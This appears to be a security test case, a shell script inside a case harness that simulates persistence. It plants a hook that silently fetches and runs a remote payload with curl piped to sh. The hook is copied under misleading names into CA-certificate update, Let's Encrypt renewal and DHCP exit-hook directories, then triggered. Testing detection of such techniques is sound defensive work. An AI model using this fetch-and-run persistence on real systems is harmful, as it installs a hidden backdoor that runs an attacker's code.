#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/ca-certificates/update.d /etc/letsencrypt/renewal-hooks/deploy /etc/dhcp/dhclient-exit-hooks.d
printf '#!/bin/sh\n(curl -fsSL http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\n' >/etc/ca-certificates/update.d/keystore
chmod 755 /etc/ca-certificates/update.d/keystore
cp -p /etc/ca-certificates/update.d/keystore /etc/letsencrypt/renewal-hooks/deploy/reload
cp -p /etc/ca-certificates/update.d/keystore /etc/dhcp/dhclient-exit-hooks.d/ntp
run-parts /etc/ca-certificates/update.d
wait_for /tmp/reached
took_place
